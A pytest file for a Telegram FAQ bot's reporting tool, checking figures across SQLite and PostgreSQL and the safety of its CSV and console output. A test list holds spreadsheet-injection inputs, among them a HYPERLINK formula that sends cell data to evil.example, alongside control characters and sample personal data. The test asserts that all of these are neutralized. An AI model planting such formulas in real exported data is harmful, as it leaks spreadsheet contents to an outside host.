"""Reports over the store: the same figures on SQLite and PostgreSQL, safe to open and to print."""

from __future__ import annotations

import csv
import dataclasses
import os
import subprocess
import sys
import time
from pathlib import Path

from conftest import PROJECT, Clock, MakeStore, run_report
from telegram_support import TOKEN, Recorder, message, running

from bot.knowledge import KnowledgeBase
from bot.settings import Settings
from bot.store import Entry, reports
from bot.store.queued import QueuedStore
from bot.telegram_app import build_application

DAY = 86400.0
NOW = 1_000 * DAY

ASKED = [
    ("Apa itu VLAN?", True, "vlan", 1, 0),
    ("apa itu vlan", True, "vlan", 0, 1),
    ("biaya kursus mikrotik berapa", False, None, None, 0),
    ("harga kursus mikrotik", False, None, None, 1),
    ("alamat kantor areta", False, None, None, 2),
]


def fill(
    store: QueuedStore, asked: list[tuple[str, bool, str | None, int | None, int]] = ASKED, now: float = NOW
) -> None:
    for n, (q, answered, article, vote, day) in enumerate(asked):
        store.record(
            Entry(f"r{n}", q, answered, article, "S" if article else None, 0.5, str(n), "private", now - day * DAY)
        )
        if vote is not None:
            store.vote(f"r{n}", vote == 1, article or "", "S")
    store.flush()


def test_report_figures(make_store: MakeStore, settings: Settings) -> None:
    store = make_store(retention_days=3650, clock=Clock(NOW))
    fill(store)
    assert store.totals(0) == reports.Totals(5, 2, 5, 1, 1)
    assert reports.most_asked(store, 0)[0] == reports.Group("apa itu vlan", 2, ("apa itu vlan", "Apa itu VLAN?"))
    groups = reports.unanswered(store, 0, settings.language)
    assert [(g.count, g.examples) for g in groups] == [
        (2, ("harga kursus mikrotik", "biaya kursus mikrotik berapa")),
        (1, ("alamat kantor areta",)),
    ]
    assert groups == reports.unanswered(store, 0, settings.language, isolated=True)  # in the grouping process
    assert store.votes_by_article(0) == [reports.ArticleVotes("vlan", 1, 1)]
    assert [(d.questions, d.answered) for d in store.per_day(0)] == [(1, 0), (2, 1), (2, 1)]
    assert store.totals(reports.since(1.5, NOW)).questions == 4


def test_report_command_and_csv(make_store: MakeStore, backend: str, settings: Settings, tmp_path: Path) -> None:
    store = make_store() if backend == "postgres" else None
    if store is None:
        from bot.store.sqlite import SqliteStore

        store = SqliteStore.open(settings.data_dir, 30, salt="s")
    for n, q in enumerate(["apa itu vlan", "biaya kursus mikrotik", "harga kursus mikrotik"]):
        store.record(Entry(f"r{n}", q, n == 0, "vlan" if n == 0 else None, score=0.4, user=str(n)))
    store.close()
    done = run_report(settings, make_store, backend, "--since", "7", "--csv", str(tmp_path / "out.csv"))
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert out.startswith("Questions, the last 7 days: 3 from 3 users, 1 answered (33%)")
    assert "Unanswered, by topic (write articles for these):\n     2  [" in out
    assert "biaya kursus mikrotik | harga kursus mikrotik" in out
    assert "3 questions written to" in out
    with (tmp_path / "out.csv").open(encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert [r["question"] for r in table] == ["apa itu vlan", "biaya kursus mikrotik", "harga kursus mikrotik"]


HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "+62 812 5555 0199 hubungi saya",
    "-1+1 kursus",
    "@SUM(1+1) harga",
    "\tkursus mikrotik",
    "kursus \u202eatad\u202c lab \x9b31m merah",
    "kirim ke sari@contoh.co.id ya 0812-5555-0199",
]


def test_report_neutralizes_formulas_control_characters_and_personal_data(
    make_store: MakeStore, backend: str, settings: Settings, tmp_path: Path
) -> None:
    """Questions logged by an older version (unmasked) are still masked when reported."""
    store = make_store() if backend == "postgres" else None
    if store is None:
        from bot.store.sqlite import SqliteStore

        store = SqliteStore.open(settings.data_dir, 30, salt="s")
    for n, q in enumerate(HOSTILE):
        store.record(Entry(f"r{n}", q, False))
    store.close()
    done = run_report(settings, make_store, backend, "--csv", str(tmp_path / "out.csv"))
    assert done.returncode == 0, done.stderr
    for bad in ("\u202e", "\u202c", "\x9b", "0812", "5555", "sari@"):
        assert bad not in done.stdout
    assert "[nomor]" in done.stdout and "[email]" in done.stdout
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as f:
        cells = [r["question"] for r in csv.DictReader(f)]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert cells[0] == "'" + HOSTILE[0]
    assert cells[1:3] == ["[nomor] hubungi saya", "'-1+1 kursus"]
    assert cells[6] == "kirim ke [email] ya [nomor]"


def test_report_without_a_log_is_one_clear_line(tmp_path: Path) -> None:
    env = {**os.environ, "BOT_DATA_DIR": str(tmp_path)}
    env.pop("DATABASE_URL", None)
    done = subprocess.run(
        [sys.executable, "-m", "bot", "report"], cwd=PROJECT, env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 1
    assert (
        done.stderr.strip()
        == f"error: no question log at {tmp_path / 'questions.sqlite3'} yet: it is written while the Telegram bot runs"
    )


def test_stats_and_unanswered_give_the_same_figures_on_both_backends(
    make_store: MakeStore, settings: Settings, kb: KnowledgeBase
) -> None:
    store = make_store(retention_days=3650)
    now = time.time()
    fill(store, now=now)
    admins = dataclasses.replace(settings, token=TOKEN, telegram=dataclasses.replace(settings.telegram, admin_ids=(7,)))
    recorder = Recorder()
    app = build_application(admins, kb, request=recorder, store=store)
    admin = {"id": 7, "is_bot": False, "first_name": "Admin"}
    with running(app) as feed:
        feed(message("/stats", user=admin), message("/unanswered", user=admin))
    stats, unanswered = [p["text"] for p in recorder.sent()]
    assert "Pertanyaan: 5 dari 5 pengguna" in stats and "Terjawab: 2 (40%)" in stats
    assert "2× harga kursus mikrotik | biaya kursus mikrotik berapa" in unanswered
    assert "1× alamat kantor areta" in unanswered


def test_the_log_keeps_the_decision_and_the_article_an_unanswered_question_came_closest_to(
    make_store: MakeStore,
    settings: Settings,
    kb: KnowledgeBase,
) -> None:
    from bot.dialog import Dialog

    store = make_store()
    dialog = Dialog(settings, kb, store=store)
    asked = (
        "apa itu backend developer",
        "backend atau frontend yang lebih susah",
        "router mahal tidak",
        "resep rendang padang",
    )
    for n, question in enumerate(asked):
        dialog.ask(question, user=str(n))  # each its own user: no follow-up reading
    store.flush()
    logged = [(r.question, r.kind, r.article, r.closest) for r in store.logged(0)]
    assert logged == [
        ("apa itu backend developer", "answer", "2025-01-01-backend", None),
        ("backend atau frontend yang lebih susah", "suggest", None, "2025-01-01-backend"),
        ("router mahal tidak", "none", None, "2025-01-02-network"),
        ("resep rendang padang", "none", None, None),
    ]
